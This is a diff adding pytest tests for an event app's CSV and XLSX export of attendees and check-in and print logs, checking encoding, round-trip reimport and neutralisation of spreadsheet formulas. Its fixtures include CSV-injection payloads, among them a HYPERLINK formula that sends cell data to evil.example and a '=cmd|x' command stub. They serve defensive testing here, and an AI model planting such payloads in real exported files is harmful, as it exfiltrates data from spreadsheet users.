@@ -1,0 +1,145 @@
+"""Export: attendees and logs to CSV (UTF-8 BOM) and XLSX, round trip, formula neutralisation."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+from pathlib import Path
+
+import openpyxl
+import pytest
+from sqlalchemy import select
+
+from db.engine import open_store
+from db.models import Attendee, CheckIn, PrintLog
+from desktop.cli import main
+from desktop.core.errors import UserError
+from desktop.core.events import create_event, current_event
+from desktop.core.exporting import export
+from tests.core.import_support import people, run_import, write_csv
+
+HEADER = ["ID", "First name", "Last name", "中文姓名", "Email", "Company", "Phone", "Category",
+          "Secret", "Notes", "Dietary", "How did you hear?"]  # fmt: skip
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+ROWS = [
+    ["1", "Tai Man", "Chan", "陳大文", "tm@example.hk", "HKUST", "+852 9123 4567", "speaker",
+     "sec-001", "", "vegetarian", "friend"],
+    ["2", EVIL, "Hacker", "", "evil@example.org", "@SUM(1+1)", "-5", "attendee", "sec-002",
+     "\tindented", "", "=1+1"],
+    ["3", "Zoë", "Núñez", "", "zoe@example.es", "Café Zoë", "", "vip", "", "line one", "halal",
+     ""],
+]  # fmt: skip
+
+
+def _fill(store, tmp_path: Path) -> None:
+    result = run_import(store, write_csv(tmp_path / "in.csv", HEADER, ROWS))
+    assert result.created == 3 and result.rejected == 0
+
+
+def _fresh_store(path: Path):
+    s = open_store(str(path), create=True)
+    with s.session() as sess:
+        create_event(sess, "Other", "Asia/Hong_Kong")
+    return s
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_export_then_reimport_gives_identical_attendees(store, tmp_path: Path, suffix: str):
+    _fill(store, tmp_path)
+    out = tmp_path / f"attendees.{suffix}"
+    with store.session() as s:
+        res = export(s, current_event(s), out)
+    assert res.rows == 3
+    other = _fresh_store(tmp_path / "other.sqlite")
+    try:
+        result = run_import(other, out)
+        assert result.preset == "confdesk" and (result.created, result.rejected) == (3, 0)
+        assert people(other) == people(store)
+        assert people(store)[1]["given_name"] == EVIL
+    finally:
+        other.close()
+    # Back into the same store: everyone matched, nothing changed.
+    again = run_import(store, out)
+    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
+
+
+def test_csv_is_utf8_with_bom_and_formulas_are_neutralised(store, tmp_path: Path) -> None:
+    _fill(store, tmp_path)
+    out = tmp_path / "a.csv"
+    with store.session() as s:
+        export(s, current_event(s), out)
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    hacker = rows[1]
+    assert hacker["Given name"] == "'" + EVIL
+    assert hacker["Organization"] == "'@SUM(1+1)"
+    assert hacker["Phone"] == "'-5"
+    assert hacker["Notes"] == "'\tindented"
+    assert hacker["How did you hear?"] == "'=1+1"
+    assert rows[0]["Phone"] == "'+852 9123 4567"
+    assert rows[0]["Name (local script)"] == "陳大文"
+    assert rows[0]["Ticket codes"] == "import:sec-001"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+
+
+def test_xlsx_has_no_formula_cells_and_keeps_values(store, tmp_path: Path) -> None:
+    _fill(store, tmp_path)
+    out = tmp_path / "a.xlsx"
+    with store.session() as s:
+        export(s, current_event(s), out)
+    ws = openpyxl.load_workbook(out).active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert cells and all(c.data_type != "f" for c in cells)
+    header = [c.value for c in next(ws.iter_rows(max_row=1))]
+    hacker = [c for c in list(ws.iter_rows(min_row=3, max_row=3))[0]]
+    given = hacker[header.index("Given name")]
+    assert given.value == EVIL and given.data_type == "s" and given.quotePrefix
+    assert hacker[header.index("How did you hear?")].value == "=1+1"
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_checkin_and_print_logs(store, tmp_path: Path, suffix: str) -> None:
+    _fill(store, tmp_path)
+    at = dt.datetime(2026, 9, 27, 1, 30)  # 09:30 in Hong Kong
+    with store.session() as s:
+        a = s.scalars(select(Attendee).where(Attendee.email == "tm@example.hk")).one()
+        s.add(CheckIn(event_id=a.event_id, attendee_id=a.id, result="checked_in",
+                      code=a.badge_code, desk="Desk 1", operator="amy", at=at))  # fmt: skip
+        s.add(CheckIn(event_id=a.event_id, attendee_id=None, result="unknown", code="=cmd|x",
+                      desk="Desk 2", at=at + dt.timedelta(minutes=1)))  # fmt: skip
+        s.add(PrintLog(event_id=a.event_id, attendee_id=a.id, kind="desk", template="Default",
+                       destination="PDF", desk="Desk 1", at=at))  # fmt: skip
+    for what, expected in [
+        ("checkins", [["2026-09-27 09:30:00", "checked_in", "1", "Tai Man", "Chan"],
+                      ["2026-09-27 09:31:00", "unknown", "", "", ""]]),
+        ("prints", [["2026-09-27 09:30:00", "desk", "1", "Tai Man", "Chan"]]),
+    ]:  # fmt: skip
+        out = tmp_path / f"{what}.{suffix}"
+        with store.session() as s:
+            assert export(s, current_event(s), out, what).rows == len(expected)
+        if suffix == "csv":
+            with out.open(encoding="utf-8-sig", newline="") as fh:
+                got = list(csv.reader(fh))[1:]
+        else:
+            ws = openpyxl.load_workbook(out).active
+            got = [
+                [("" if v is None else v.isoformat(sep=" ") if isinstance(v, dt.datetime) else str(v))
+                 for v in row]
+                for row in ws.iter_rows(min_row=2, values_only=True)
+            ]  # fmt: skip
+        assert [r[:5] for r in got] == expected
+        if what == "checkins":
+            assert got[1][5] in ("'=cmd|x", "=cmd|x")  # neutralised in CSV, text in XLSX
+
+
+def test_export_refusals_and_cli(store, event_db: Path, tmp_path: Path, capsys) -> None:
+    with store.session() as s, pytest.raises(UserError, match="give the file a .csv or .xlsx"):
+        export(s, current_event(s), tmp_path / "x.txt")
+    db = ["--db", str(event_db)]
+    assert main([*db, "attendees", "export", str(tmp_path / "nope" / "x.csv")]) == 2
+    assert "no folder" in capsys.readouterr().err
+    _fill(store, tmp_path)
+    assert main([*db, "attendees", "export", str(tmp_path / "a.xlsx"), "--what", "attendees"]) == 0
+    assert "wrote 3 attendees rows" in capsys.readouterr().out
